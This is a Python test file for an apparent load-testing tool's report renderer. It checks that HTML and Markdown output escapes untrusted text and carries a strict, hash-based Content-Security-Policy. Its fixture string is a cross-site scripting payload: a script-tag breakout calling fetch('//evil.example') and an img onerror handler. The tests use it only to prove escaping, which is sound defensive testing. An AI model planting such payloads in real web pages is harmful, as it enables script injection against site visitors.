"""What a run, a search or a drill brings along is text: in the page, in its script's data, in Markdown."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest
from msgspec import structs

from loadgen.report.faces import as_html, as_markdown
from loadgen.report.model import Report, report
from loadgen.results import Second
from loadgen.tally import Tally
from loadgen.watched import Mark, Sample, Server
from support.loads import record
from support.reported import CAPACITY, DRILLS, RECORD

EVIL = "</script><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>\"'&`|*_\r# \u2028<!--"


@pytest.fixture(scope="module")
def evil() -> Report:
    """Markup in every text that comes from outside."""
    here, tally = RECORD.run.environment, Tally()
    assert here is not None
    tally.error(EVIL, 3)
    first = structs.replace(
        RECORD.run,
        plan=structs.replace(RECORD.run.plan, name=EVIL),
        environment=structs.replace(here, host=EVIL, cpu=EVIL, system=EVIL),
    )
    last = Second(at=13.0, phase=EVIL, registered=3, tally=tally)
    whole = record(first, [*RECORD.seconds, last], losses=(EVIL,))
    whole = structs.replace(
        whole,
        server=Server(seen_by=EVIL, about={EVIL: EVIL}),
        samples=(*RECORD.samples, Sample(at=13.0, readings={EVIL: 1.0})),
        marks=tuple(Mark(at=one.at, kind=one.kind, text=EVIL) for one in RECORD.marks),
    )
    limits = tuple(structs.replace(one, resource=EVIL, why=EVIL) for one in CAPACITY.limits)
    capacity = structs.replace(CAPACITY, because=EVIL, gave_out=EVIL, invalid=(EVIL,), limits=limits)
    goals = tuple(structs.replace(one, name=EVIL) for one in DRILLS[0].objectives)
    drill = structs.replace(DRILLS[0], name=EVIL, harm=EVIL, reasons=(EVIL,), objectives=goals)
    return report(whole, capacity, (drill,))


class Page(HTMLParser):
    """What a browser finds in one."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[tuple[str, str]] = []
        """Of scripts and styles: which, and what is in it."""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem:
            self.texts.append((self.elements[-1][1].get("type") or self.cdata_elem, data))


@pytest.mark.parametrize("language", ["en", "es"])
def test_the_page_has_no_element_and_no_attribute_of_anybody_else(evil: Report, language: str) -> None:
    mine, theirs = (Page(as_html(one, language)).elements for one in (report(RECORD, CAPACITY, DRILLS), evil))
    assert {tag for tag, _ in theirs} <= {tag for tag, _ in mine}
    assert {name for _, attrs in theirs for name in attrs} <= {name for _, attrs in mine for name in attrs}
    for tag in ("script", "style", "meta", "link"):
        assert sum(one == tag for one, _ in theirs) == sum(one == tag for one, _ in mine)


def test_its_policy_names_its_own_parts_by_their_hashes_and_allows_nothing_else(evil: Report) -> None:
    page = Page(as_html(evil, "en"))
    (policy,) = [attrs["content"] or "" for _, attrs in page.elements if "http-equiv" in attrs]
    rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert "unsafe" not in policy
    for kind in ("script", "style"):
        hashes = [
            base64.b64encode(hashlib.sha256(text.encode()).digest())
            for one, text in page.texts
            if one == kind
        ]
        assert rules[f"{kind}-src"] == " ".join(f"'sha256-{one.decode()}'" for one in hashes)
    assert not [attrs for _, attrs in page.elements if "style" in attrs]


@pytest.mark.parametrize("language", ["en", "es"])
def test_markdown_stays_what_it_is(evil: Report, language: str) -> None:
    text = as_markdown(evil, language)
    lines = [line for line in re.split(r"[\r\n]", text) if not line.startswith("    ")]  # but for code
    assert [line for line in lines if re.search(r"(?<!\\)[<`]", line)] == []
    heads = len(re.findall(r"(?m)^#", as_markdown(report(RECORD, CAPACITY, DRILLS), language)))
    assert sum(line.startswith("#") for line in lines) == heads
    tables = [line for line in lines if line.startswith("|")]
    cells = [len(re.findall(r"(?<!\\)\|", line)) for line in tables]
    assert set(cells) == {
        count for line, count in zip(tables, cells, strict=True) if set(line) <= set("|-: ")
    }
